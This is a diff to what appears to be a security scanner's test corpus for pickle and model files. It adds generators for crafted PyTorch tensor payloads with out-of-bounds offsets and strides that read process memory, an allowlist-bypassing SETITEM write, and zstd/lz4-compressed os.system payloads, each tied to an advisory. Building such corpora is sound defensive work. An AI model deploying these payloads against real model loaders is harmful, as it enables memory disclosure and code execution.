@@ -629,6 +629,46 @@ def _frame_inside_frame(m: Path) -> bytes:
     return proto(4) + _frame(inner + b"C" + bytes([len(hidden) - 1])) + hidden
 
 
+# -- tensor views outside their storage (pytorch/pytorch#183381, #184652) -------------------------
+
+
+def _storage_pid(kind: str, key: str, numel: int) -> bytes:
+    """BINPERSID of a torch.save storage reference: ('storage', torch.KIND, key, 'cpu', numel)."""
+    return MARK + u("storage") + global0("torch", kind) + u(key) + u("cpu") + const(numel) + TUPLE + b"Q"
+
+
+def _tensor_zip(rebuild: bytes, numel: int, kind: str = "FloatStorage", width: int = 4) -> bytes:
+    data = proto(2) + EMPTY_DICT + u("w") + rebuild + SETITEM + STOP
+    return torch_zip(data, extra={"archive/data/0": b"\0" * (numel * width)})
+
+
+def _tensor_offset_out_of_bounds(m: Path) -> bytes:
+    # 12 floats, a 3x4 view starting at element 40: the C++ unpickler did not check the offset.
+    args = _storage_pid("FloatStorage", "0", 12) + const(40) + const((3, 4)) + const((4, 1))
+    call_ = global0("torch._utils", "_rebuild_tensor_v2") + MARK + args + NEWFALSE + EMPTY_DICT
+    return _tensor_zip(call_ + TUPLE + REDUCE, 12)
+
+
+def _qtensor_stride_out_of_bounds(m: Path) -> bytes:
+    # A quantized 3x4 tensor over 12 bytes whose row stride reaches far past them: dequantize()
+    # reads process memory (weights_only=True returned it unchecked).
+    args = _storage_pid("QUInt8Storage", "0", 12) + const(0) + const((3, 4)) + const((1 << 20, 1))
+    qparams = MARK + global0("torch", "per_tensor_affine") + b"G" + struct.pack(">d", 0.1) + const(0) + TUPLE
+    call_ = global0("torch._utils", "_rebuild_qtensor") + MARK + args + qparams + NEWFALSE + EMPTY_DICT
+    return _tensor_zip(call_ + TUPLE + REDUCE, 12, "QUInt8Storage", 1)
+
+
+def _setitem_on_tensor(m: Path) -> bytes:
+    # SETITEM on a rebuilt tensor calls Tensor.__setitem__: a write the scanner must not wave
+    # through because the tensor's constructor is allowlisted.
+    args = _storage_pid("FloatStorage", "0", 4) + const(0) + const((4,)) + const((1,))
+    tensor = (
+        global0("torch._utils", "_rebuild_tensor_v2") + MARK + args + NEWFALSE + EMPTY_DICT + TUPLE + REDUCE
+    )
+    data = proto(2) + tensor + const(0) + const(1) + SETITEM + STOP
+    return torch_zip(data, extra={"archive/data/0": b"\0" * 16})
+
+
 _SH, _PY = shell, py
 _GH_PS = "https://github.com/mmaitre314/picklescan/security/advisories/"
 _GH_FK = "https://github.com/trailofbits/fickling/security/advisories/"
@@ -1002,6 +1042,20 @@ BYPASSES: list[Payload] = [
     ),
     Payload("fickling_pty_spawn_build", _GH_FK + "GHSA-r7v6-mfhq-g3m2", _pty_build, "pty.spawn"),
     Payload(
+        "pytorch_tensor_storage_offset_out_of_bounds",
+        "https://github.com/pytorch/pytorch/pull/183381 (size, stride and offset unchecked on unpickling)",
+        _tensor_offset_out_of_bounds,
+        "tensor-out-of-bounds",
+        suffix=".pt",
+    ),
+    Payload(
+        "pytorch_qtensor_unchecked_stride",
+        "https://github.com/pytorch/pytorch/issues/184652 (weights_only=True, torch 2.12.0)",
+        _qtensor_stride_out_of_bounds,
+        "tensor-out-of-bounds",
+        suffix=".pt",
+    ),
+    Payload(
         "fickling_frame_boundary_binbytes_length",
         "https://github.com/python/cpython/issues/154848; https://github.com/trailofbits/fickling/pull/317",
         _frame_binbytes_length_straddle,
@@ -1195,12 +1249,31 @@ OPCODE_PATHS: list[Payload] = [
     ),
     Payload("setitem_on_global", "SETITEM on an imported object", _setitem_on_global, "method-call"),
     Payload("append_on_global", "APPEND on an imported object", _append_on_global, "method-call"),
+    Payload(
+        "setitem_on_tensor",
+        "SETITEM on an allowlisted non-dict object",
+        _setitem_on_tensor,
+        "method-call",
+        suffix=".pt",
+    ),
     Payload("rebuild_from_type_gadget", "allowlisted higher-order callable", _rebuild_from_type, "os.system"),
     Payload("python2_names", "protocol 2 __builtin__ mapping", _py2_names, "builtins.eval"),
     Payload("unknown_persistent_id", "BINPERSID", _unknown_persistent_id, "unknown-persistent-id"),
     Payload("call_value_only_global", "REDUCE on a value-only global", _call_value_global, "calls-value"),
     Payload("nested_pickle_in_bytes", "pickle inside a bytes constant", _bytes_nested, "os.system"),
 ]
+
+
+def _zstd(data: bytes) -> bytes:
+    import zstandard
+
+    return zstandard.ZstdCompressor().compress(data)
+
+
+def _lz4(data: bytes) -> bytes:
+    import lz4.frame
+
+    return lz4.frame.compress(data)
 
 
 def _compressed(kind: str) -> Callable[[Path], bytes]:
@@ -1212,6 +1285,8 @@ def _compressed(kind: str) -> Callable[[Path], bytes]:
             "xz": lzma.compress,
             "zlib": zlib.compress,
             "lzma": lambda d: lzma.compress(d, format=lzma.FORMAT_ALONE),
+            "zstd": _zstd,
+            "lz4": _lz4,
         }[kind](data)
 
     return build
@@ -1316,7 +1391,7 @@ def _keras_config(layer: dict[str, Any]) -> Callable[[Path], bytes]:
 CONTAINERS: list[Payload] = [
     *(
         Payload(f"compressed_{k}", k, _compressed(k), "os.system", ".joblib")
-        for k in ("gzip", "bz2", "xz", "zlib", "lzma")
+        for k in ("gzip", "bz2", "xz", "zlib", "lzma", "zstd", "lz4")
     ),
     Payload("zip_in_zip", "nested zip", _nested_zip, "os.system", ".zip"),
     Payload("zip_in_gzip", "gzip of a torch zip", _gzip_of_zip, "os.system", ".pt.gz"),
@@ -1550,7 +1625,9 @@ def benign_files(folder: Path) -> list[Path]:
 
         joblib.dump({"w": np.arange(100.0), "meta": {"k": 1}}, folder / "arrays.joblib")
         joblib.dump({"w": np.arange(100.0)}, folder / "arrays_z.joblib", compress=3)
-        out += [folder / "arrays.joblib", folder / "arrays_z.joblib"]
+        joblib.dump({"w": np.arange(100.0)}, folder / "arrays_lz4.joblib", compress="lz4")
+        joblib.dump({"w": np.arange(100.0)}, folder / "arrays_xz.joblib", compress="xz")
+        out += [folder / f"arrays{s}.joblib" for s in ("", "_z", "_lz4", "_xz")]
     except ImportError:  # pragma: no cover - joblib ships with scikit-learn
         pass
     return out
